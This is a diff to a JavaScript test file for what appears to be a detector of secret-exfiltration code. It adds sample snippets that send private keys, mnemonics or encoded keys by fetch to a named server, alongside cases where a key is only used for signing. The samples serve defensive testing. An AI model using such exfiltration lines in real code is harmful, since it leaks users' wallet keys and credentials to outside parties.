@@ -169,10 +169,13 @@ test('bad: private keys as they are, to a server that the script names', () => {
     `fetch("${TO}", { method: "POST", body: JSON.stringify({ words: mnemonic }) })`,
     `import bs58 from "bs58"; const b = bs58.encode(secretKey); fetch("${TO}", { headers: { "x-id": b.slice(0, 24) } })`,
     'mailer.sendMail({ to: "a@example.invalid", text: privateKey })',
+    `fetch("${TO}", { body: jwt.encode({ iss: mail, key: privateKey }, secret, "RS256") })`,
+    `fetch("${TO}", { body: coder.encode("hex", privateKey, "text") })`,
   ]) assert.equal(worst(code), 'high', code);
   for (const code of [
     `fetch("${TO}", { headers: { authorization: sign(payload, privateKey) } })`,
     `const token = require("jsonwebtoken").sign(claims, options.privateKey); fetch("${TO}", { body: token })`,
+    `const jwt = require("jwt-simple"); const token = (mail, privateKey) => { const signed = jwt.encode({ iss: mail }, privateKey, "RS256"); request({ method: "POST", url: "${TO}", body: "assertion=" + signed }) }`,
     'fetch(this.endpoint, { body: JSON.stringify({ mnemonic }) })',
     'fetch("http://localhost:8545", { method: "POST", body: JSON.stringify({ params: [privateKey] }) })',
     `fetch("${TO}", { body: JSON.stringify({ secretKey }) })`,
